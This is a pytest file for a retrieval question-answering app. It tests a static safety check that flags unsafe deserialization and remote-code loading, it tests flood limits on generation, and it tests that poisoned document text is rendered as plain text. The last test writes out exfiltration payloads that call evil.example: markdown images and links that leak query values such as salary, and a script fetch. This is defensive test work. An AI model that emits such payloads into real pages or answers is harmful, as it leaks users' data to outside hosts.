"""Safety gates: the static check CI runs, bounded consumption (flood, slow generation, oversized
questions), and answers from poisoned documents shown as text."""

from __future__ import annotations

import subprocess
import sys
import threading
import time
from pathlib import Path


from rag.generation import GenerationParams, GeneratorBusyError, make_generator
from rag.qa import Answer, SentenceSupport
from rag.sentences import sentence_spans
from tests.conftest import REPO
from tests.conftest import tiny_dolly
from ui.web.render import answer_markup, safe, text_html


def test_the_repository_passes_the_safety_check() -> None:
    done = subprocess.run([sys.executable, str(REPO / "scripts" / "check_safety.py")], capture_output=True, text=True)
    assert done.returncode == 0, done.stdout


def test_the_safety_check_catches_each_rule(tmp_path: Path) -> None:
    # written in pieces so this file does not trip the check itself
    pk = "pick" + "le"
    bad = {
        "a.py": f"import {pk}\nstore = {pk}.loads(blob)\n",
        "b.py": "FAISS.load_local(path, emb, allow_dangerous_" + "deserialization=True)\n",
        "c.py": "AutoModel.from_pretrained(name, trust_remote_" + "code=True)\n",
        "d.py": "state = torch" + ".load('model.bin')\n",
        ".streamlit/config.toml": "[browser]\ngatherUsage" + "Stats = true\n",
    }
    for name, text in bad.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    subprocess.run(["git", "add", "."], cwd=tmp_path, check=True)
    done = subprocess.run([sys.executable, str(REPO / "scripts" / "check_safety.py"), str(tmp_path)],
                          capture_output=True, text=True)
    assert done.returncode == 1
    for name in bad:
        assert name in done.stdout, done.stdout


def test_a_flood_gets_busy_errors_quickly_and_the_service_keeps_serving(make_settings, tmp_path: Path) -> None:
    generator = make_generator(make_settings(generator_model=str(tiny_dolly(tmp_path / "m", "yes")),
                                                    max_concurrent_generations=2,
                                                    generation_queue_s=0).generation)  # no queue: busy at once
    generator.warm_up()
    slow = GenerationParams(max_new_tokens=300)
    outcomes: list[tuple[str, float]] = []

    def ask() -> None:
        started = time.perf_counter()
        try:
            generator.generate("when is lunch", slow)
            outcomes.append(("answered", time.perf_counter() - started))
        except GeneratorBusyError:
            outcomes.append(("busy", time.perf_counter() - started))

    threads = [threading.Thread(target=ask) for _ in range(12)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    answered = [s for kind, s in outcomes if kind == "answered"]
    busy = [s for kind, s in outcomes if kind == "busy"]
    assert 2 <= len(answered) < 12 and len(busy) == 12 - len(answered)
    assert max(busy) < 0.5  # refused at once, not after waiting for a slot
    assert generator.generate("when is lunch", GenerationParams(max_new_tokens=2)) == "yes yes"


def test_poisoned_text_is_shown_as_text() -> None:
    poisoned = ("Visitors park on level -2. ![status](http://evil.example/leak.png?q=parking) "
                "<img src='http://evil.example/a.png'> [details](http://evil.example/?q=salary) "
                "<script>fetch('http://evil.example')</script> www.evil.example")
    # Markdown contexts: no tag, link or image syntax survives; st.html contexts: no tag, no linkable URL
    for shown, forbidden in ((safe(poisoned), ("<img", "<script", "](", "![", "http://", "www.evil")),
                             (text_html(poisoned), ("<img", "<script", "http://", "www.evil"))):
        for tag in forbidden:
            assert tag not in shown, (tag, shown)
    spans = sentence_spans(poisoned)
    answer = Answer("q", poisoned, False, support=[
        SentenceSupport(poisoned[a:b], False, 0.0, 0.0, None, "", a, b) for a, b in spans])
    markup = answer_markup(answer)
    assert "<img" not in markup and "<script" not in markup and "http://" not in markup
